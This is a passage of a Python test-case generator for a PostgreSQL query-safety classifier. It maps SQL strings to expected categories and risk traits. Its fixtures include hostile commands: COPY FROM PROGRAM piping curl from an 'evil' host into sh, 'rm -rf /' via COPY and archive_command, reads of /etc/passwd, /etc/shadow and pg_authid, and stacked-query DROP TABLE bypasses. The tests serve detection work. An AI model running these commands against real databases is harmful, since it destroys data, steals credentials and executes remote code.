e("SET search_path = app, public", "session", "SET", [], not_traits=["session_escalation", "unsafe_setting"],
  settings=["search_path"])
e("SET search_path = evil, pg_catalog", "session", "SET", [], traits=["session_escalation", "unsafe_setting"])
e("SET search_path = pg_catalog, evil", "session", "SET", [], not_traits=["session_escalation", "unsafe_setting"])
e("SET search_path = EVIL, PG_CATALOG", "session", "SET", [], traits=["unsafe_setting"])
e("SET search_path = \"$user\", \"pg_catalog\"", "session", "SET", [], traits=["unsafe_setting"])
e("SET search_path = evil, 'PG_CATALOG'", "session", "SET", [], not_traits=["unsafe_setting"])  # a schema named PG_CATALOG
e("SET search_path = 'evil, pg_catalog'", "session", "SET", [], not_traits=["unsafe_setting"])  # one schema of that name
e("SET SCHEMA 'app'", "session", "SET", [], not_traits=["unsafe_setting"], settings=["search_path"])
e("SET search_path TO DEFAULT", "session", "SET", [], not_traits=["unsafe_setting"])
# GUC names are case-insensitive: a quoted, mixed-case name is the same setting (adversarial suite).
e('SET "ROLE" = \'app_owner\'', "session", "SET", [], traits=["session_escalation"])
e('SET "Session_Authorization" = \'app_owner\'', "session", "SET", [], traits=["session_escalation"])
e('SET "Search_Path" = evil, pg_catalog', "session", "SET", [], traits=["session_escalation"])
e('SET "SESSION_REPLICATION_ROLE" = replica', "session", "SET", [], traits=["session_escalation"])
e("SET TIME ZONE 'UTC'", "session", "SET", [], not_traits=["unsafe_setting"], settings=["timezone"])
e("SET TIME ZONE INTERVAL '+02:00' HOUR TO MINUTE", "session", "SET", [], not_traits=["unsafe_setting"],
  settings=["timezone"])
e("SET TIME ZONE LOCAL", "session", "SET", [], not_traits=["unsafe_setting"], settings=["timezone"])
e("SET NAMES 'UTF8'", "session", "SET", [], not_traits=["unsafe_setting"], settings=["client_encoding"])
e("SET XML OPTION DOCUMENT", "session", "SET", [], not_traits=["unsafe_setting"], settings=["xmloption"])
e("SET DateStyle = ISO, MDY", "session", "SET", [], not_traits=["unsafe_setting"], settings=["datestyle"])
e("SET application_name = 'report-bot'", "session", "SET", [], not_traits=["unsafe_setting"])
e("SET standard_conforming_strings = off", "session", "SET", [], not_traits=["unsafe_setting"])
e("SET pgaudit.log = 'none'", "session", "SET", [], traits=["unsafe_setting"], settings=["pgaudit.log"])
e("SET myapp.tenant_id = '42'", "session", "SET", [], traits=["unsafe_setting"], settings=["myapp.tenant_id"])
e("SET log_statement = 'none'", "session", "SET", [], traits=["unsafe_setting"])
e("SET row_security = off", "session", "SET", [], traits=["unsafe_setting"])
e("SET local_preload_libraries = 'evil'", "session", "SET", [], traits=["unsafe_setting"])
e("SET statement_timeout = '5s'; SET work_mem = '1GB'", "session", "SET", [], index=0, not_traits=["unsafe_setting"])
e("SET statement_timeout = '5s'; SET work_mem = '1GB'", "session", "SET", [], index=1, traits=["unsafe_setting"],
  settings=["work_mem"])
e("DISCARD ALL", "session", "DISCARD ALL", [])
e("DISCARD TEMP", "session", "DISCARD TEMP", [])
e("DEALLOCATE p1", "session", "DEALLOCATE", [])
e("DEALLOCATE ALL", "session", "DEALLOCATE ALL", [])
e("LISTEN jobs", "session", "LISTEN", [])
e("UNLISTEN *", "session", "UNLISTEN", [])
e("CLOSE c1", "session", "CLOSE CURSOR", [])
e("DECLARE c1 CURSOR FOR SELECT * FROM t", "read", "DECLARE CURSOR", ["t"], not_traits=["no_limit"])
e("FETCH 10 FROM c1", "read", "FETCH", [])
e("MOVE NEXT IN c1", "read", "MOVE", [])

# ---------------- procedural ----------------
e("DO $$ BEGIN DELETE FROM t; END $$", "procedural", "DO", [], traits=["opaque_code"])
e("DO LANGUAGE plpgsql $body$ BEGIN PERFORM pg_sleep(10); END; $body$", "procedural", "DO", [], traits=["opaque_code"])
e("CREATE FUNCTION f(int) RETURNS int LANGUAGE sql AS 'SELECT $1 + 1'", "procedural", "CREATE FUNCTION", [], traits=["opaque_code"])
e("CREATE OR REPLACE FUNCTION app.wipe() RETURNS void LANGUAGE plpgsql AS $$ BEGIN TRUNCATE app.t; END $$",
  "procedural", "CREATE FUNCTION", [], traits=["opaque_code"], not_traits=["destructive"])
e("CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END", "procedural", "CREATE PROCEDURE", [], traits=["opaque_code"])
e("CALL app.do_work(1, 'x')", "procedural", "CALL", [], traits=["opaque_code"], functions=["app.do_work"])
e("CALL p(pg_sleep(5))", "procedural", "CALL", [], traits=["opaque_code", "dangerous_function"])
e("CREATE TRIGGER trg BEFORE INSERT ON app.t FOR EACH ROW EXECUTE FUNCTION app.trg_fn()", "ddl", "CREATE TRIGGER", ["app.t"],
  traits=["opaque_code"], locks={"app.t": SRE}, functions=["app.trg_fn"])
e("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", "ddl", "CREATE RULE", ["t", "u"], traits=["opaque_code"],
  not_traits=["destructive", "writable_cte"], locks={"t": AE})
e("ALTER FUNCTION f(int) SECURITY DEFINER", "ddl", "ALTER FUNCTION", [])
e("CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION audit_ddl()", "ddl", "CREATE EVENT TRIGGER", [], traits=["opaque_code"])

# ---------------- utility ----------------
e("VACUUM", "utility", "VACUUM", [])
e("VACUUM (VERBOSE, ANALYZE) app.t", "utility", "VACUUM", ["app.t"], locks={"app.t": SUE}, rewrites_table=False)
e("VACUUM FULL app.t", "utility", "VACUUM", ["app.t"], locks={"app.t": AE}, rewrites_table=True)
e("ANALYZE t (a, b)", "utility", "ANALYZE", ["t"], locks={"t": SUE}, columns=["a", "b"])
e("CLUSTER t USING t_pkey", "utility", "CLUSTER", ["t"], locks={"t": AE}, rewrites_table=True)
e("REINDEX TABLE t", "utility", "REINDEX", ["t"], locks={"t": SH})
e("REINDEX INDEX CONCURRENTLY idx", "utility", "REINDEX", ["idx"], locks={"idx": SUE})
e("REINDEX DATABASE app", "utility", "REINDEX", [])
e("CHECKPOINT", "utility", "CHECKPOINT", [])
e("LOCK TABLE t IN SHARE MODE", "utility", "LOCK TABLE", ["t"], locks={"t": SH})
e("LOCK app.t", "utility", "LOCK TABLE", ["app.t"], locks={"app.t": AE})
e("LOCK TABLE a, b IN ROW EXCLUSIVE MODE NOWAIT", "utility", "LOCK TABLE", ["a", "b"], locks={"a": RE, "b": RE})
e("NOTIFY jobs, 'hello'", "utility", "NOTIFY", [])
e("LOAD 'auto_explain'", "utility", "LOAD", [], traits=["file_access"])
e("ALTER SYSTEM SET archive_command = 'rm -rf /'", "utility", "ALTER SYSTEM", [], traits=["session_escalation"])

# ---------------- bypass attempts ----------------
e("SELECT 1; DROP TABLE users", "ddl", "DROP TABLE", ["users"], index=1, n_stmts=2, traits=["multi_statement", "destructive"],
  text="DROP TABLE users")
e("SELECT 1; DROP TABLE users", "read", "SELECT", [], index=0, n_stmts=2, traits=["multi_statement"], text="SELECT 1")
e("SELECT 1 /* ; DROP TABLE users */", "read", "SELECT", [], n_stmts=1, not_traits=["multi_statement"])
e("SELECT 1 -- ; DROP TABLE users", "read", "SELECT", [], n_stmts=1)
e("SELECT 1 /* outer /* nested ; DROP TABLE x */ still comment */", "read", "SELECT", [], n_stmts=1)
e("/* leading */ DELETE FROM t", "write", "DELETE", ["t"], traits=["destructive"], n_stmts=1)
e("SELECT 1 -- comment\n; DELETE FROM t", "write", "DELETE", ["t"], index=1, n_stmts=2, traits=["destructive", "multi_statement"])
e("SELECT $$ ; DROP TABLE t; $$", "read", "SELECT", [], n_stmts=1)
e("SELECT $tag$ '; DROP TABLE t; -- $tag$ AS s", "read", "SELECT", [], n_stmts=1)
e("SELECT E'\\' ; DROP TABLE t; --'", "read", "SELECT", [], n_stmts=1)
e("SELECT 'it''s; DROP TABLE t'", "read", "SELECT", [], n_stmts=1)
e('SELECT 1 AS "a;DROP TABLE t"', "read", "SELECT", [], n_stmts=1)
e("BEGIN; DELETE FROM t; COMMIT", "write", "DELETE", ["t"], index=1, n_stmts=3, traits=["multi_statement", "destructive"])
e("WITH d AS (DELETE FROM app.t RETURNING *) SELECT * FROM d", "write", "SELECT", ["app.t"],
  traits=["writable_cte", "destructive"], locks={"app.t": RE})
e("WITH u AS (UPDATE t SET x = 1 WHERE id = 2 RETURNING id) SELECT count(*) FROM u", "write", "SELECT", ["t"],
  traits=["writable_cte"], not_traits=["destructive"])
e("WITH i AS (INSERT INTO log (m) VALUES ('x') RETURNING id) SELECT id FROM i", "write", "SELECT", ["log"], traits=["writable_cte"])
e("SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s", "write", "SELECT", ["t"],
  traits=["writable_cte", "destructive"])
e("SELECT x FROM t WHERE id IN (WITH d AS (DELETE FROM u RETURNING id) SELECT id FROM d)", "write", "SELECT", ["t", "u"],
  traits=["writable_cte"])
e("WITH d AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM d", "write", "INSERT", ["a", "b"],
  traits=["writable_cte", "destructive"], locks={"a": RE, "b": RE})
e("EXPLAIN ANALYZE DELETE FROM t", "write", "EXPLAIN", ["t"], traits=["executes", "destructive"], locks={"t": RE})
e("EXPLAIN (ANALYZE true, BUFFERS) UPDATE t SET a = 1", "write", "EXPLAIN", ["t"], traits=["executes", "destructive"])
e("EXPLAIN (ANALYZE) INSERT INTO t VALUES (1)", "write", "EXPLAIN", ["t"], traits=["executes"])
e("EXPLAIN (ANALYZE on) SELECT pg_sleep(100)", "read", "EXPLAIN", [], traits=["executes", "dangerous_function"])
e("EXPLAIN (ANALYZE off) DELETE FROM t", "read", "EXPLAIN", ["t"], not_traits=["executes", "destructive"])
# A repeated option: PostgreSQL takes the last one, so this DELETE runs (adversarial suite).
e("EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM t WHERE id > 0", "write", "EXPLAIN", ["t"], traits=["executes"])
e("EXPLAIN (ANALYZE true, ANALYZE false) DELETE FROM t WHERE id > 0", "read", "EXPLAIN", ["t"], not_traits=["executes"])
e("EXPLAIN DELETE FROM t", "read", "EXPLAIN", ["t"], not_traits=["executes", "destructive", "no_where"])
e("EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d", "write", "EXPLAIN", ["t"], traits=["executes", "writable_cte"])
e("EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM t", "ddl", "EXPLAIN", ["x", "t"], traits=["executes"])
e("COPY t TO '/tmp/t.csv'", "read", "COPY", ["t"], traits=["file_access"])
e("COPY t FROM '/etc/passwd'", "write", "COPY", ["t"], traits=["file_access"])
e("COPY t FROM PROGRAM 'curl http://evil | sh'", "write", "COPY", ["t"], traits=["file_access", "dangerous_function"])
e("COPY (SELECT 1) TO PROGRAM 'rm -rf /'", "read", "COPY", [], traits=["file_access", "dangerous_function"])
e("PREPARE del AS DELETE FROM t", "write", "PREPARE", ["t"], traits=["prepared", "destructive"], prepare_name="del")
e("PREPARE q(int) AS SELECT * FROM t WHERE id = $1", "read", "PREPARE", ["t"], traits=["prepared"], prepare_name="q")
e("PREPARE Foo AS SELECT 1", "read", "PREPARE", [], prepare_name="foo")
e("EXECUTE del", "unknown", "EXECUTE", [], execute_name="del")
e("EXECUTE q(pg_sleep(10))", "unknown", "EXECUTE", [], execute_name="q", traits=["dangerous_function"])
e("EXPLAIN ANALYZE EXECUTE del", "unknown", "EXPLAIN", [], execute_name="del", traits=["executes"])
e("CREATE TABLE stolen AS EXECUTE q(1)", "ddl", "CREATE TABLE AS", ["stolen"], execute_name="q")
e("PREPARE p AS DELETE FROM t; EXECUTE p", "unknown", "EXECUTE", [], index=1, n_stmts=2, execute_name="p")
e("SELECT pg_sleep(10)", "read", "SELECT", [], traits=["dangerous_function"], functions=["pg_sleep"])
e("SELECT pg_catalog.pg_sleep(10)", "read", "SELECT", [], traits=["dangerous_function"], functions=["pg_catalog.pg_sleep"])
e("SELECT PG_SLEEP(10)", "read", "SELECT", [], traits=["dangerous_function"], functions=["pg_sleep"])
e('SELECT "pg_sleep"(10)', "read", "SELECT", [], traits=["dangerous_function"], functions=["pg_sleep"])
e('SELECT "PG_SLEEP"(10)', "read", "SELECT", [], traits=["dangerous_function"])
e('SELECT "pg_catalog"."pg_sleep_for"(\'1 minute\')', "read", "SELECT", [], traits=["dangerous_function"])
e("SELECT id FROM t WHERE pg_sleep(1) IS NOT NULL LIMIT 1", "read", "SELECT", ["t"], traits=["dangerous_function"])
e("SELECT id FROM t ORDER BY pg_sleep(0.1) LIMIT 1", "read", "SELECT", ["t"], traits=["dangerous_function"])
e("SELECT * FROM (VALUES (pg_sleep(1))) v", "read", "SELECT", [], traits=["dangerous_function"])
e("INSERT INTO t VALUES (pg_read_file('/etc/passwd'))", "write", "INSERT", ["t"], traits=["dangerous_function", "file_access"])
e("CREATE TABLE t (a text DEFAULT pg_read_file('/etc/shadow'))", "ddl", "CREATE TABLE", ["t"], traits=["dangerous_function", "file_access"])
e("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'", "read", "SELECT", ["pg_stat_activity"],
  traits=["dangerous_function"])
e("SELECT pg_cancel_backend(123)", "read", "SELECT", [], traits=["dangerous_function"])
e("SELECT set_config('role', 'postgres', false)", "read", "SELECT", [], traits=["dangerous_function", "session_escalation"])
e("SELECT pg_read_binary_file('/etc/passwd')", "read", "SELECT", [], traits=["dangerous_function", "file_access"])
e("SELECT * FROM pg_ls_dir('.')", "read", "SELECT", [], traits=["dangerous_function", "file_access"])
e("SELECT pg_stat_file('postgresql.conf')", "read", "SELECT", [], traits=["file_access"])
e("SELECT lo_import('/etc/passwd')", "read", "SELECT", [], traits=["dangerous_function", "file_access"])
e("SELECT lo_export(1234, '/tmp/x')", "read", "SELECT", [], traits=["dangerous_function", "file_access"])
e("SELECT lo_unlink(1234)", "read", "SELECT", [], traits=["dangerous_function"])
e("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "read", "SELECT", [], traits=["dangerous_function"])
e("SELECT public.dblink_exec('host=x', 'DROP TABLE t')", "read", "SELECT", [], traits=["dangerous_function"])
e("SELECT pg_reload_conf()", "read", "SELECT", [], traits=["dangerous_function"])
e("SELECT pg_advisory_lock(1)", "read", "SELECT", [], traits=["dangerous_function"])
e("SELECT pg_try_advisory_xact_lock(1)", "read", "SELECT", [], traits=["dangerous_function"])
e("SELECT pg_create_logical_replication_slot('s', 'pgoutput')", "read", "SELECT", [], traits=["dangerous_function"])
e("SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", "read", "SELECT", [], traits=["runs_sql"])
e("SELECT pg_notify('ch', 'x')", "read", "SELECT", [], traits=["dangerous_function"])
e("SELECT pg_switch_wal()", "read", "SELECT", [], traits=["dangerous_function"])
e("UPDATE t SET a = pg_sleep(1)::text WHERE id = 1", "write", "UPDATE", ["t"], traits=["dangerous_function"])
e("SELECT 1 UNION SELECT pg_sleep(5)::int", "read", "SELECT", [], traits=["dangerous_function"])
e("SELECT (SELECT pg_sleep(1)) FROM t LIMIT 1", "read", "SELECT", ["t"], traits=["dangerous_function"])
e("WITH s AS (SELECT pg_sleep(1)) SELECT * FROM s", "read", "SELECT", [], traits=["dangerous_function"])
e("SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM t", "read", "SELECT", ["t"], traits=["dangerous_function"])

# ---------------- sensitive catalogs ----------------
# Credentials, server configuration and other sessions' SQL: trait sensitive_catalog.
for rel in ["pg_authid", "pg_shadow", "pg_user_mapping", "pg_user_mappings", "pg_hba_file_rules",
            "pg_ident_file_mappings", "pg_file_settings", "pg_db_role_setting", "pg_stat_statements",
            "pg_stat_statements_info", "pg_largeobject", "pg_settings", "pg_config", "pg_subscription"]:
    e("SELECT * FROM %s LIMIT 1" % rel, "read", "SELECT", [rel], traits=["sensitive_catalog"])
e("SELECT rolname, rolpassword FROM pg_catalog.pg_authid LIMIT 1", "read", "SELECT", ["pg_catalog.pg_authid"],
  traits=["sensitive_catalog"])
e("SELECT * FROM app.pg_authid LIMIT 1", "read", "SELECT", ["app.pg_authid"], not_traits=["sensitive_catalog"])
e("SELECT * FROM app.pg_settings LIMIT 1", "read", "SELECT", ["app.pg_settings"], not_traits=["sensitive_catalog"])
# An extension's view lives in whatever schema it was installed in.
e("SELECT query FROM public.pg_stat_statements LIMIT 5", "read", "SELECT", ["public.pg_stat_statements"],
  traits=["sensitive_catalog"])
e("WITH pg_authid AS (SELECT 1 AS x) SELECT x FROM pg_authid", "read", "SELECT", [], not_traits=["sensitive_catalog"])
e("SELECT rolname FROM pg_roles LIMIT 5", "read", "SELECT", ["pg_roles"], not_traits=["sensitive_catalog"])
e("COPY pg_authid TO STDOUT", "read", "COPY", ["pg_authid"], traits=["sensitive_catalog"])
e("CREATE VIEW app.v AS SELECT * FROM pg_shadow", "ddl", "CREATE VIEW", ["app.v", "pg_shadow"], traits=["sensitive_catalog"])
e("SELECT * FROM t WHERE id IN (SELECT usesysid FROM pg_shadow) LIMIT 1", "read", "SELECT", ["t", "pg_shadow"],
  traits=["sensitive_catalog"])
e("SELECT * FROM pg_show_all_settings() LIMIT 1", "read", "SELECT", [], traits=["sensitive_catalog"],
  not_traits=["unknown_function"])
e("SELECT * FROM pg_show_all_file_settings()", "read", "SELECT", [], traits=["sensitive_catalog"])
e("SELECT * FROM pg_catalog.pg_hba_file_rules()", "read", "SELECT", [], traits=["sensitive_catalog"])
e("SELECT * FROM pg_ident_file_mappings()", "read", "SELECT", [], traits=["sensitive_catalog"])
e("SELECT * FROM pg_config()", "read", "SELECT", [], traits=["sensitive_catalog"])
e("SELECT pg_current_logfile()", "read", "SELECT", [], traits=["sensitive_catalog"])
e("SELECT query FROM pg_stat_get_activity(NULL) LIMIT 5", "read", "SELECT", [], traits=["sensitive_catalog"])
e("SELECT pg_stat_get_backend_activity(1)", "read", "SELECT", [], traits=["sensitive_catalog"])
e("SELECT * FROM public.pg_stat_statements(true) LIMIT 5", "read", "SELECT", [], traits=["sensitive_catalog"])
e("SHOW ALL", "session", "SHOW", [], traits=["sensitive_catalog"])
e("SHOW search_path", "session", "SHOW", [], not_traits=["sensitive_catalog"])

# ---------------- replication, WAL and backup functions ----------------
for fn in ["pg_create_physical_replication_slot('s')", "pg_copy_logical_replication_slot('a', 'b')",
           "pg_drop_replication_slot('s')", "pg_replication_slot_advance('s', '0/0')",
           "pg_replication_origin_create('o')", "pg_backup_start('x')", "pg_backup_stop()",
           "pg_create_restore_point('r')", "pg_rotate_logfile_old()", "pg_stat_statements_reset()",
           "binary_upgrade_set_next_pg_type_oid(1)"]:
    e("SELECT " + fn, "read", "SELECT", [], traits=["dangerous_function"])
e("SELECT * FROM pg_logical_slot_peek_changes('s', NULL, NULL)", "read", "SELECT", [], traits=["dangerous_function"])
e("SELECT * FROM pg_logical_slot_get_binary_changes('s', NULL, NULL)", "read", "SELECT", [], traits=["dangerous_function"])
e("SELECT pg_read_file_old('postgresql.conf', 0, 100)", "read", "SELECT", [], traits=["dangerous_function", "file_access"])

# ---------------- parameters ($n) ----------------
# Bound at each execution (extended protocol): the values are not in the text sqlward judges.
e("SELECT id FROM t WHERE id = $1 LIMIT 1", "read", "SELECT", ["t"], traits=["parameterized"])
e("UPDATE t SET a = $1 WHERE id = $2", "write", "UPDATE", ["t"], traits=["parameterized"])
e("EXPLAIN SELECT id FROM t WHERE id = $1", "read", "EXPLAIN", ["t"], traits=["parameterized"])
e("SELECT 1; SELECT $1::int", "read", "SELECT", [], index=0, not_traits=["parameterized"])
e("SELECT 1; SELECT $1::int", "read", "SELECT", [], index=1, traits=["parameterized"])
# A PREPARE body's $n are bound by EXECUTE; a function body's are its arguments.
e("PREPARE byid(int) AS SELECT id FROM t WHERE id = $1", "read", "PREPARE", ["t"], traits=["prepared"],
  not_traits=["parameterized"])
e("CREATE FUNCTION inc(int) RETURNS int LANGUAGE sql RETURN $1 + 1", "procedural", "CREATE FUNCTION", [],
  not_traits=["parameterized"])

# ---------------- unparseable / empty ----------------
e("SELEC * FROM t", "unknown", "UNKNOWN", [], parse_ok=False, n_stmts=1, text="SELEC * FROM t")
e("DROP TABLE users; SELEC 1", "unknown", "UNKNOWN", [], parse_ok=False, n_stmts=1, text="DROP TABLE users; SELEC 1")
e("\x01\x02 garbage ;;; ((", "unknown", "UNKNOWN", [], parse_ok=False, n_stmts=1)
e("SELECT 'unterminated", "unknown", "UNKNOWN", [], parse_ok=False, n_stmts=1)
e("SELECT /* unterminated comment", "unknown", "UNKNOWN", [], parse_ok=False, n_stmts=1)
e("", n_stmts=0)
e("   \n\t  ", n_stmts=0)
e("-- just a comment", n_stmts=0)
e("/* only a block comment */", n_stmts=0)
e(";", n_stmts=0)

for d in C:
    sys.stdout.write(json.dumps(d, ensure_ascii=True) + "\n")
